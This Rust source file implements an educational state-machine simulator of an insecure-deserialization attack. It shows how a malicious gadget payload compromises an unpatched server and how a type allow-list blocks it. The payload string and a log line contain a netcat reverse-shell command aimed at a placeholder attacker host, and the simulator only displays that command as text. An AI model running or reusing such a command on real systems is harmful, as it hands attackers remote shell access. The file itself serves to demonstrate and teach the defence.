//! Insecure-deserialization exploit simulator.
//!
//! A client posts a serialized session object to a simulated server. The
//! request passes through two timed stages, then resolves to exactly one
//! terminal status:
//!
//! | payload   | patched | status        |
//! |-----------|---------|---------------|
//! | benign    | any     | `safe`        |
//! | malicious | true    | `safe`        |
//! | malicious | false   | `compromised` |
//!
//! On `compromised`, a further timer reveals the attacker's shell. The reveal
//! only happens if the status is still `compromised` when that timer fires.
//!
//! The payload and patch settings are captured when `send()` runs. Changing
//! them mid-flight affects the next request only.

use std::collections::VecDeque;
use std::time::Duration;

use serde::{Deserialize, Serialize};
use serde_json::json;

use crate::config::{SimConfig, TimingConfig};
use crate::fsm::{Machine, Timers, Transition};

#[allow(missing_docs)]
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum PayloadKind {
    #[default]
    Benign,
    Malicious,
}

impl PayloadKind {
    /// Serialized body shown in the request panel.
    #[must_use]
    pub const fn body(self) -> &'static str {
        match self {
            Self::Benign => r#"{"@type":"UserSession","user":"alice","theme":"dark"}"#,
            Self::Malicious => {
                r#"{"@type":"CommandGadget","cmd":"/bin/sh -c 'nc attacker.example 4444 -e /bin/sh'"}"#
            }
        }
    }
}

#[allow(missing_docs)]
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ServerStatus {
    #[default]
    Idle,
    Processing,
    Compromised,
    Safe,
}

impl ServerStatus {
    #[must_use]
    pub const fn is_terminal(self) -> bool {
        matches!(self, Self::Compromised | Self::Safe)
    }
}

#[allow(missing_docs)]
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum LogLevel {
    Info,
    Success,
    Warning,
    Critical,
}

#[allow(missing_docs)]
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct LogLine {
    pub level: LogLevel,
    pub text: String,
}

#[allow(missing_docs)]
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ExploitSimState {
    pub patched: bool,
    pub payload_kind: PayloadKind,
    pub server_status: ServerStatus,
    /// Bounded; the oldest line drops first.
    pub log_lines: VecDeque<LogLine>,
    pub shell_revealed: bool,
}

#[allow(missing_docs)]
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "action", rename_all = "snake_case")]
pub enum ExploitAction {
    SetPatched { patched: bool },
    SetPayloadKind { payload_kind: PayloadKind },
    Send,
    Reset,
}

#[allow(missing_docs)]
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ExploitSlot {
    Pipeline,
    Shell,
}

#[allow(missing_docs)]
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ExploitTimer {
    Deserialize,
    Execute,
    RevealShell,
}

/// Settings captured at `send()` time.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct InFlight {
    payload_kind: PayloadKind,
    patched: bool,
}

impl InFlight {
    const fn outcome(self) -> ServerStatus {
        match (self.payload_kind, self.patched) {
            (PayloadKind::Malicious, false) => ServerStatus::Compromised,
            (PayloadKind::Benign, _) | (PayloadKind::Malicious, true) => ServerStatus::Safe,
        }
    }
}

/// Staged attack/defence simulator.
#[derive(Debug)]
pub struct ExploitSimulator {
    state: ExploitSimState,
    in_flight: Option<InFlight>,
    log_capacity: usize,
    deserialize: Duration,
    execute: Duration,
    reveal: Duration,
}

impl Default for ExploitSimulator {
    fn default() -> Self {
        Self::new(&SimConfig::default())
    }
}

impl ExploitSimulator {
    #[must_use]
    pub fn new(config: &SimConfig) -> Self {
        Self {
            state: ExploitSimState::default(),
            in_flight: None,
            log_capacity: config.exploit_log_capacity.max(1),
            deserialize: TimingConfig::ms(config.timing.exploit_deserialize_ms),
            execute: TimingConfig::ms(config.timing.exploit_execute_ms),
            reveal: TimingConfig::ms(config.timing.exploit_shell_reveal_ms),
        }
    }

    pub fn set_patched(&mut self, patched: bool) {
        self.state.patched = patched;
    }

    pub fn set_payload_kind(&mut self, payload_kind: PayloadKind) {
        self.state.payload_kind = payload_kind;
    }

    /// Posts the current payload. Only valid from `idle` or a terminal status.
    pub fn send(&mut self, timers: &mut Timers<Self>) -> Transition {
        if self.state.server_status == ServerStatus::Processing {
            return Transition::ignored("request already processing");
        }
        timers.cancel(ExploitSlot::Shell);
        let request = InFlight {
            payload_kind: self.state.payload_kind,
            patched: self.state.patched,
        };
        self.in_flight = Some(request);
        self.state.server_status = ServerStatus::Processing;
        self.state.shell_revealed = false;
        self.state.log_lines.clear();
        self.log(LogLevel::Info, "POST /api/session Content-Type: application/x-java-serialized-object");
        self.log(LogLevel::Info, format!("Body: {}", request.payload_kind.body()));
        timers.arm(ExploitSlot::Pipeline, self.deserialize, ExploitTimer::Deserialize);
        Transition::Applied
    }

    fn log(&mut self, level: LogLevel, text: impl Into<String>) {
        while self.state.log_lines.len() >= self.log_capacity {
            self.state.log_lines.pop_front();
        }
        self.state.log_lines.push_back(LogLine {
            level,
            text: text.into(),
        });
    }

    fn on_deserialize(&mut self, request: InFlight, timers: &mut Timers<Self>) {
        self.log(LogLevel::Info, "Deserializing request body...");
        if request.patched {
            self.log(LogLevel::Info, "Type allow-list active: only UserSession may be instantiated");
        }
        timers.arm(ExploitSlot::Pipeline, self.execute, ExploitTimer::Execute);
    }

    fn on_execute(&mut self, request: InFlight, timers: &mut Timers<Self>) {
        self.in_flight = None;
        let status = request.outcome();
        match (request.payload_kind, status) {
            (PayloadKind::Benign, _) => {
                self.log(LogLevel::Success, "Session restored for user 'alice'. 200 OK");
            }
            (PayloadKind::Malicious, ServerStatus::Safe) => {
                self.log(LogLevel::Success, "Blocked by patch: CommandGadget is not an allowed type. 400 Bad Request");
            }
            _ => {
                self.log(LogLevel::Warning, "Gadget chain invoked during deserialization!");
                self.log(LogLevel::Critical, "Executing: /bin/sh -c 'nc attacker.example 4444 -e /bin/sh'");
                tracing::info!("simulated server compromised by malicious payload");
                timers.arm(ExploitSlot::Shell, self.reveal, ExploitTimer::RevealShell);
            }
        }
        self.state.server_status = status;
    }

    #[must_use]
    pub fn is_busy(&self) -> bool {
        self.state.server_status == ServerStatus::Processing
    }
}

impl Machine for ExploitSimulator {
    const NAME: &'static str = "exploit";

    type State = ExploitSimState;
    type Action = ExploitAction;
    type Slot = ExploitSlot;
    type Timer = ExploitTimer;

    fn state(&self) -> &ExploitSimState {
        &self.state
    }

    fn apply(&mut self, action: ExploitAction, timers: &mut Timers<Self>) -> Transition {
        match action {
            ExploitAction::SetPatched { patched } => {
                self.set_patched(patched);
                Transition::Applied
            }
            ExploitAction::SetPayloadKind { payload_kind } => {
                self.set_payload_kind(payload_kind);
                Transition::Applied
            }
            ExploitAction::Send => self.send(timers),
            ExploitAction::Reset => {
                timers.cancel_all();
                self.reset();
                Transition::Applied
            }
        }
    }

    fn on_timer(&mut self, timer: ExploitTimer, timers: &mut Timers<Self>) {
        match (timer, self.in_flight) {
            (ExploitTimer::Deserialize, Some(request)) => self.on_deserialize(request, timers),
            (ExploitTimer::Execute, Some(request)) => self.on_execute(request, timers),
            (ExploitTimer::RevealShell, _) if self.state.server_status == ServerStatus::Compromised => {
                self.state.shell_revealed = true;
                self.log(LogLevel::Critical, "attacker@server:~# whoami -> root");
            }
            (timer, _) => {
                tracing::trace!(?timer, status = ?self.state.server_status, "stale exploit timer ignored");
            }
        }
    }

    fn reset(&mut self) {
        self.state = ExploitSimState::default();
        self.in_flight = None;
    }

    fn view(&self) -> serde_json::Value {
        json!({
            "state": self.state,
            "request_body": self.state.payload_kind.body(),
            "send_enabled": !self.is_busy(),
        })
    }
}
